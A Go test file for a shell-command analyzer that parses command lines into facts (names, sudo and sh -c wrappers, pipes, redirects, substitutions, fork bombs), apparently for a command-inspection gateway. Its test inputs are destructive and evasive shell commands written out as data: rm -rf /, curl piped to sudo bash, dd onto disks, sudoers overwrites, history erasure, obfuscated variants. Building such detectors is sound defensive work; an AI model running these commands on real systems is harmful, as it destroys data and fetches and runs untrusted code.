package shellscan

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/sluicegw/sluice/abi"
)

// facts returns the facts of line as "stmt key=value", through an encoded
// and validated command.
func facts(t testing.TB, line string) []string {
	t.Helper()
	var cb abi.CommandBuilder
	cb.Set(abi.CommandShell, line, "test", "test")
	Analyze(line).AddFacts(&cb)
	buf := make([]byte, cb.Size())
	cb.Encode(buf)
	cmd, err := abi.ParseCommand(buf)
	if err != nil {
		t.Fatalf("%q: encoded command invalid: %v", line, err)
	}
	out := make([]string, cmd.NumFacts())
	for i := range out {
		f := cmd.Fact(i)
		out[i] = fmt.Sprintf("%d %s=%s", f.Stmt, f.Key, f.Value)
	}
	return out
}

// has reports whether fs holds want; a want of "* key=value" matches any
// statement.
func has(fs []string, want string) bool {
	if rest, ok := strings.CutPrefix(want, "* "); ok {
		for _, f := range fs {
			if _, kv, _ := strings.Cut(f, " "); kv == rest {
				return true
			}
		}
		return false
	}
	return slices.Contains(fs, want)
}

func TestFacts(t *testing.T) {
	tests := []struct {
		name, line string
		want, not  []string
	}{
		{"simple", "rm -rf /", []string{"0 commands=1", "0 argv0=rm", "0 name=rm", "0 arg=-rf", "0 arg=/"}, []string{"* dynamic=0", "* parse_error="}},
		{"double quoted part", `r"m" -rf /`, []string{"0 argv0=rm", "0 name=rm"}, nil},
		{"single quoted", `'rm' -rf /`, []string{"0 argv0=rm"}, nil},
		{"backslash in name", `r\m -rf /`, []string{"0 argv0=rm"}, nil},
		{"ansi-c quoting", `$'\x72\155' -rf /`, []string{"0 argv0=rm"}, nil},
		{"escaped space", `rm -rf /tmp/a\ b "/tmp/c d"`, []string{"0 arg=/tmp/a b", "0 arg=/tmp/c d"}, nil},
		{"path kept, name is basename", "/usr/bin/sudo ls", []string{"0 argv0=/usr/bin/sudo", "0 name=sudo", "1 name=ls", "1 via=sudo", "1 sudo=true"}, []string{"0 sudo=true"}},
		{"env prefix", "FOO=1 BAR='a b' rm -rf /", []string{"0 env=FOO=1", "0 env=BAR=a b", "0 name=rm"}, nil},
		{"bare assignment", "HISTFILE=/dev/null", []string{"0 commands=1", "0 assign=HISTFILE=/dev/null"}, []string{"* argv0=HISTFILE=/dev/null"}},
		{"export", "export HISTFILE=/dev/null", []string{"0 name=export", "0 arg=HISTFILE=/dev/null"}, nil},
		{"unset", "unset HISTFILE", []string{"0 name=unset", "0 arg=HISTFILE"}, nil},
		{"history -c", "history -c", []string{"0 name=history", "0 arg=-c"}, nil},
		{"redirect truncate", "> /etc/hosts", []string{"0 commands=1", "0 redirect=> /etc/hosts"}, nil},
		{"redirects", "echo x > /etc/passwd 2>&1 >> ~/.bash_history", []string{"0 redirect=> /etc/passwd", "0 redirect=2>&1", "0 redirect=>> ~/.bash_history"}, nil},
		{"compound redirect", "{ echo a; echo b; } > /etc/passwd", []string{"0 redirect=> /etc/passwd", "1 redirect=> /etc/passwd"}, nil},
		{"curl pipe sh", "curl -s https://x.example/i.sh | sh", []string{"0 name=curl", "0 pipe=0", "1 name=sh", "1 pipe=1", "1 pipe_from=curl"}, nil},
		{"wget pipe sh", "wget -qO- http://x | sh", []string{"1 name=sh", "1 pipe_from=wget"}, nil},
		{"curl pipe sudo bash", "curl x | sudo -E bash -", []string{"1 name=sudo", "1 pipe_from=curl", "2 name=bash", "2 via=sudo", "2 sudo=true", "2 pipe_from=curl", "2 arg=-"}, nil},
		{"three stage pipe", "cat a | grep b | sh", []string{"1 pipe_from=cat", "2 pipe_from=grep", "2 pipe=2"}, nil},
		{"substitution", "echo $(curl -s x | bash)", []string{"0 name=echo", "0 dynamic=1", "0 arg=$(curl -s x | bash)", "1 name=curl", "1 substitution=true", "2 name=bash", "2 pipe_from=curl", "2 substitution=true"}, []string{"0 substitution=true"}},
		{"bare substitution", "$(curl -s x | bash)", []string{"0 dynamic=0", "1 name=curl", "2 name=bash"}, nil},
		{"backticks", "echo `rm -rf /`", []string{"1 name=rm", "1 substitution=true"}, nil},
		{"process substitution", "bash <(curl -s x)", []string{"0 name=bash", "0 dynamic=1", "1 name=curl", "1 substitution=true"}, nil},
		{"parameter expansion", `$CMD -rf "$HOME"/x`, []string{"0 argv0=$CMD", "0 dynamic=0", `0 arg="$HOME"/x`, "0 dynamic=2"}, nil},
		{"sequence", "echo ok; rm -rf ~", []string{"0 commands=2", "1 name=rm", "1 arg=~"}, nil},
		{"multiline", "echo ok\nrm -rf /\n\nshutdown -h now", []string{"0 commands=3", "1 name=rm", "2 name=shutdown", "2 arg=now"}, nil},
		{"line continuation", "rm \\\n -rf /", []string{"0 name=rm", "0 arg=-rf"}, nil},
		{"and or", "make && make install || rm -rf build", []string{"1 list=&&", "2 list=||", "2 name=rm"}, []string{"0 list=&&"}},
		{"subshell", "(cd / && rm -rf *)", []string{"1 name=rm", "1 subshell=true", "1 arg=*"}, nil},
		{"background", "sleep 100 & rm -rf /", []string{"0 background=true", "1 name=rm"}, []string{"1 background=true"}},
		{"if", "if true; then rm -rf /; else echo; fi", []string{"1 name=rm", "1 clause=if", "2 clause=if"}, nil},
		{"while", "while :; do rm -rf /; done", []string{"1 clause=while"}, nil},
		{"for", "for f in $(ls); do rm $f; done", []string{"* name=ls", "* clause=for"}, nil},
		{"case", "case $x in a) rm -rf /;; esac", []string{"0 name=rm", "0 clause=case"}, nil},
		{"function", "f() { rm -rf /; }; f", []string{"0 name=rm", "0 function=f", "1 name=f"}, []string{"1 function=f"}},
		{"find delete", "find / -delete", []string{"0 name=find", "0 arg=-delete"}, nil},
		{"find exec", `find / -exec rm -rf {} \;`, []string{"1 name=rm", "1 via=find -exec", "1 arg={}"}, []string{`1 arg=;`}},
		{"dd", "dd if=/dev/zero of=/dev/sda bs=1M", []string{"0 name=dd", "0 arg=of=/dev/sda"}, nil},
		{"shutdown", "shutdown -h now", []string{"0 name=shutdown"}, nil},
		{"sh -c", `sh -c 'rm -rf /'`, []string{"0 name=sh", "1 name=rm", "1 via=sh -c"}, nil},
		{"bash -lc", `bash -lc "curl x | sh"`, []string{"1 name=curl", "2 name=sh", "2 pipe_from=curl", "2 via=bash -c"}, nil},
		{"zsh dash -c", `zsh -c 'dash -c "reboot"'`, []string{"2 name=reboot", "2 via=zsh -c dash -c"}, nil},
		{"sh -c dynamic", `sh -c "$CMD"`, []string{"0 commands=1", "0 dynamic=2"}, nil},
		{"su -c", `su - root -c 'rm -rf /'`, []string{"1 name=rm", "1 via=su -c", "1 sudo=true"}, nil},
		{"sudo sh -c", `sudo sh -c 'echo x > /etc/sudoers'`, []string{"1 name=sh", "1 via=sudo", "2 name=echo", "2 redirect=> /etc/sudoers", "2 via=sudo sh -c", "2 sudo=true"}, nil},
		{"sudo -u", "sudo -u postgres psql -c 'drop database x'", []string{"1 name=psql", "1 via=sudo", "1 arg=drop database x"}, []string{"* name=postgres"}},
		{"sudo --user=", "sudo --user=root -- rm -rf /", []string{"1 name=rm"}, nil},
		{"doas", "doas rm -rf /", []string{"1 name=rm", "1 via=doas", "1 sudo=true"}, nil},
		{"env", "env -i X=1 Y=2 rm -rf /", []string{"1 name=rm", "1 env=X=1", "1 env=Y=2", "1 via=env"}, nil},
		{"env -S", "env -S 'rm -rf /'", []string{"1 name=rm", "1 via=env"}, nil},
		{"xargs", "ls | xargs -n 1 -I{} rm -rf {}", []string{"2 name=rm", "2 via=xargs", "1 pipe_from=ls"}, nil},
		{"nohup timeout nice", "nohup timeout -s KILL 5 nice -n 10 rm -rf / &", []string{"1 name=timeout", "1 via=nohup", "2 name=nice", "3 name=rm", "3 via=nohup timeout nice", "3 background=true"}, nil},
		{"exec command busybox", "exec command busybox rm -rf /", []string{"3 name=rm", "3 via=exec command busybox"}, nil},
		{"command -v runs nothing", "command -v rm", []string{"0 commands=1"}, nil},
		{"eval", `eval "rm -rf /"`, []string{"1 name=rm", "1 via=eval"}, nil},
		{"heredoc to shell", "sh <<EOF\nrm -rf /\nEOF", []string{"0 redirect=<< EOF", "1 name=rm", "1 via=sh <<"}, []string{"* name=EOF"}},
		{"quoted heredoc to sudo bash", "sudo bash <<'X'\ncurl x | sh\nX", []string{"2 name=curl", "3 name=sh", "3 via=sudo bash <<", "3 sudo=true"}, nil},
		{"heredoc escaped substitution", "sh <<EOF\necho \\$(id)\nEOF", []string{"* name=id"}, nil},
		{"heredoc to cat", "cat <<EOF\nrm -rf /\nEOF", []string{"0 commands=1"}, nil},
		{"heredoc substitution runs", "cat <<EOF\n$(reboot)\nEOF", []string{"* name=reboot"}, nil},
		{"here-string to shell", "bash <<< 'rm -rf /'", []string{"1 name=rm", "1 via=bash <<<"}, nil},
		{"echo piped to shell", `echo "rm -rf /" | bash`, []string{"2 name=rm", "2 via=bash |"}, nil},
		{"fork bomb", ":(){ :|:& };:", []string{"0 fork_bomb=true", "0 function=:"}, nil},
		{"named fork bomb", "bomb() { bomb | bomb & }; bomb", []string{"0 fork_bomb=true"}, nil},
		{"recursion is not a fork bomb", "f() { f; }", nil, []string{"0 fork_bomb=true"}},
		{"declare", "declare -x PATH=/tmp", []string{"0 name=declare", "0 arg=PATH=/tmp"}, nil},
		{"unterminated quote", `echo ok; rm -rf / "x`, []string{"* parse_error=1:19: reached EOF without closing quote `\"`"}, nil},
		{"dangling pipe keeps what parsed", "curl x |", []string{"0 name=curl", "* parse_error=1:8: `|` must be followed by a statement"}, nil},
		{"nested parse error", `sh -c 'rm "'`, []string{"0 name=sh", "1 name=rm", "* parse_error=sh -c: 1:4: reached EOF without closing quote `\"`"}, nil},
		{"brace list", "{rm,-rf,/}", []string{"0 argv0=rm", "0 arg=-rf", "0 arg=/"}, nil},
		{"quoted braces stay", `echo "{a,b}" {x}`, []string{"0 arg={a,b}", "0 arg={x}"}, nil},
		{"glob argv0", "/???/r? -rf /", []string{"0 argv0=/???/r?", "0 glob=0"}, []string{"0 glob=2"}},
		{"quoted glob", `rm "*" \? '[a]'`, nil, []string{"* glob=1", "* glob=2", "* glob=3"}},
		{"glob arg", "rm -rf /tmp/* @(a|b)", []string{"0 glob=2", "0 glob=3"}, nil},
		{"sudo -s heredoc", "sudo -s <<EOF\nrm -rf /\nEOF", []string{"1 name=rm", "1 via=sudo sh <<", "1 sudo=true"}, nil},
		{"su heredoc", "su - <<EOF\nreboot\nEOF", []string{"1 name=reboot", "1 via=su sh <<", "1 sudo=true"}, nil},
		{"sudo -u x -i without stdin", "sudo -u x -i", []string{"0 commands=1"}, nil},
		{"empty", "", []string{"0 commands=0"}, []string{"* argv0="}},
		{"comment only", "# rm -rf /", []string{"0 commands=0"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := facts(t, tt.line)
			for _, w := range tt.want {
				if !has(fs, w) {
					t.Errorf("%q: missing %q\nfacts: %q", tt.line, w, fs)
				}
			}
			for _, w := range tt.not {
				if has(fs, w) {
					t.Errorf("%q: unexpected %q\nfacts: %q", tt.line, w, fs)
				}
			}
		})
	}
}

func TestParseErrorVia(t *testing.T) {
	a := Analyze(`sudo sh -c 'rm "'`)
	if !strings.HasPrefix(a.ParseError, "sudo sh -c: ") {
		t.Fatalf("ParseError = %q, want the wrapper chain first", a.ParseError)
	}
}

func TestLimits(t *testing.T) {
	a := Analyze(strings.Repeat("a;", MaxCommands+10))
	if len(a.Commands) != MaxCommands || !a.Truncated {
		t.Fatalf("commands=%d truncated=%v", len(a.Commands), a.Truncated)
	}
	a = Analyze(strings.Repeat("eval ", MaxDepth+4) + "rm")
	if !a.Truncated {
		t.Fatal("eval chain not truncated")
	}
	a = Analyze(`sh -c "sh -c 'sh -c \"rm -rf /\"'"`)
	if a.Truncated || len(a.Commands) != 4 || a.Commands[3].Via != "sh -c sh -c sh -c" {
		t.Fatalf("3 nested sh -c: %+v", a.Commands)
	}
	a = Analyze(strings.Repeat("sudo ", MaxDepth+4) + "rm")
	if !a.Truncated {
		t.Fatal("sudo chain not truncated")
	}
}

func TestConcurrent(t *testing.T) {
	want := fmt.Sprint(facts(t, "curl x | sudo bash -c 'rm -rf /'"))
	done := make(chan string)
	for range 8 {
		go func() {
			var s string
			for range 50 {
				s = fmt.Sprint(facts(t, "curl x | sudo bash -c 'rm -rf /'"))
			}
			done <- s
		}()
	}
	for range 8 {
		if got := <-done; got != want {
			t.Fatalf("concurrent result differs:\n%s\n%s", got, want)
		}
	}
}
